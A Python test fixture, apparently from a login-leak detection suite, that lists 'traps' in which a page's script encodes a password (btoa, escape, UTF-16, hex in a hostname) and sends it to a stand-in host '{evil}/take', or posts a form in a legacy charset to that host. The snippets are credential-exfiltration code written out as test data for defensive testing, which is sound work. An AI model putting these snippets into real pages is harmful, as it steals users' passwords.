"""Further ways in which an app gives its login away: what a script or form makes of the password before it is sent."""

from __future__ import annotations

from collections.abc import Mapping

from tests.journeys.login_traps import PW, SENDS, STOPPED, Trap, form


def _form(charset: str, how: str = "enctype=multipart/form-data") -> Trap:
    """A form of the app's own, sent in an old encoding to where its script turns it."""
    made = form("/signin").replace("<form", f"<form accept-charset={charset} {how}")
    return Trap(pages={"/login": made + SENDS % "f.action='{evil}/take'"}, finding=STOPPED)


def _sent(code: str) -> Trap:
    return Trap(door="", pages={"/signin": form("/signin") + SENDS % code}, is_login=True, finding=STOPPED)


SPELLED: Mapping[str, Trap] = {
    "form in Latin-1": _form("iso-8859-1"),
    "form in windows-1252, by its address": _form("windows-1252", ""),
    "form in GB 18030": _form("gb18030"),
    "btoa": _sent("fetch('{evil}/take?x='+encodeURIComponent(btoa('..'+" + PW + ")),{mode:'no-cors'})"),
    "escape": _sent("fetch('{evil}/take?x='+escape(" + PW + "),{mode:'no-cors'})"),
    "UTF-16": _sent(
        "fetch('{evil}/take',{method:'POST',mode:'no-cors',body:new Uint16Array([..."
        + PW
        + "].map(c=>c.charCodeAt(0)))})"
    ),
    "name of a host": _sent(
        "new Image().src='{evil}'.replace('//','//'+Array.from(new TextEncoder().encode("
        + PW
        + "),b=>b.toString(16).padStart(2,0)).join('').toUpperCase()+'.')+'/take'"
    ),
}
"""Name → way."""
